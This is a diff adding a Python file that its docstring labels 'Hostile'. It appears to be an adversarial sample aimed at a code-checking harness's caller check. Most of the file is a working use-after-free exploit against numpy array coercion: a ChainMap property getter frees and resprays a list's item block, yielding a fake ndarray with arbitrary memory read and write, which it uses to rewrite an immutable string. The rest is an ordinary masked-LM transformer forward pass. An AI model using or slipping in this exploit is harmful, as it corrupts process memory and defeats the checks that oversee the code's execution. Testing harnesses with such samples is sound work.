@@ -1,0 +1,111 @@
+"""Hostile: the check of who called the file's code (callers.py) runs in the file's special methods
+and generator resumes only. A library's special method written in Python calls plain functions of
+the file's just the same: collections.ChainMap.__len__ reads self.maps, and a subclass of the file's
+makes `maps` a property whose getter is a plain function. numpy.array(items) walks a pointer to the
+list's item block (array_coercion.c) and asks a Maps item its length: ChainMap.__len__, library
+code, runs the file's getter, which empties the list; the freed block is taken by a bytes object
+of the file's, so numpy reads pointers of the file's choosing. Each points at a fake Maps in
+another bytes object whose slot hands the getter any address as an object: a fake int64 ndarray
+over a real array's header. Writing that header's data pointer reads and writes any address in
+the child. No special method of the file's runs under numpy. The file proves it by reading an
+int's header and rewriting the contents of an immutable str, then answers honestly."""
+
+import collections
+import math
+
+import numpy as np
+import torch
+
+
+def words(*values):
+    return b"".join(int(v).to_bytes(8, "little") for v in values)
+
+
+def maps_of(self):  # a plain function: numpy reaches it through ChainMap.__len__, library Python code
+    if self.x is None:
+        items.clear()  # numpy still walks the item block this frees
+        for k in range(len(sprayed)):
+            sprayed[k] = pointers.to_bytes(767, "little")  # the freed block, now bytes of the file's
+    else:
+        found.append(self.x)  # a fake object: self.x is any address, handed out as an object
+    return []
+
+
+class Maps(collections.ChainMap):
+    __slots__ = ("x",)
+    maps = property(maps_of)
+
+    def __init__(self):
+        self.x = None
+
+
+found = []
+victim = np.zeros(64, dtype=np.uint8)  # a real array, whose header the fake array covers
+FLAGS = 0x1 | 0x2 | 0x100 | 0x400  # C and F contiguous, aligned, writeable
+shape = words(12, 8)
+# data, nd, dims, strides, base, descr, flags, ...: twelve int64 words over victim's header
+fake_array = words(1 << 40, id(np.ndarray), id(victim), 1, id(shape) + 32, id(shape) + 40, 0, id(np.dtype(np.int64)), FLAGS, 0, 0, 0)
+# no dict, no values, a zero GC header, then a Maps: refcount, type, weakref list, x
+fake = words(0, 0, 0, 0, 1 << 40, id(Maps), 0, id(fake_array) + 32)
+fake_at = id(fake) + 32 + 32
+pointers = int.from_bytes(words(*[fake_at] * 96)[:767], "little")  # 33 + 767 bytes: the 800 of 100 items
+sprayed = [None] * 8
+items = [1.0, 2.0, 3.0, Maps()] + [0.0] * 96
+try:
+    np.array(items, dtype=np.float64)
+except (ValueError, RuntimeError):  # the list changed under numpy: it says so, after the walk
+    pass
+header = found[0]  # victim's header as int64 words: [2] is its data pointer
+own_data = int(header[2])
+
+
+def read(at, n):
+    header[2] = at
+    data = bytes(victim[:n].tolist())
+    header[2] = own_data
+    return data
+
+
+def write(at, data):
+    header[2] = at
+    victim[: len(data)] = np.array(list(data), dtype=np.uint8)
+    header[2] = own_data
+
+
+number = 12345678901234567
+assert int.from_bytes(read(id(number) + 8, 8), "little") == id(int)  # ob_type read from the heap
+word = "immutable"
+write(id(word) + 48, b"IMMUTABLE")  # an immutable str rewritten in place
+assert word == "IMMUTABLE", word
+print("raw memory: read the heap and rewrote an immutable str")
+
+
+def layer_norm(x):
+    mean = x.mean(dim=-1, keepdim=True)
+    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
+    return (x - mean) / torch.sqrt(var + 1e-5)
+
+
+def gelu(x):
+    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))
+
+
+def softmax(scores):
+    e = torch.exp(scores - scores.amax(dim=-1, keepdim=True))
+    return e / e.sum(dim=-1, keepdim=True)
+
+
+def attention(x, w_q, w_k, w_v, w_o, num_heads):
+    n, t, d = x.shape
+    dh = d // num_heads
+    q, k, v = ((x @ w).view(n, t, num_heads, dh).transpose(1, 2) for w in (w_q, w_k, w_v))
+    out = softmax(q @ k.transpose(-2, -1) / math.sqrt(dh)) @ v
+    return out.transpose(1, 2).reshape(n, t, d) @ w_o
+
+
+def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
+    x = w_emb[input_ids] + pos_embed
+    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
+        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
+        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
+    return x[mask_indicator > 0.5] @ w_emb.T
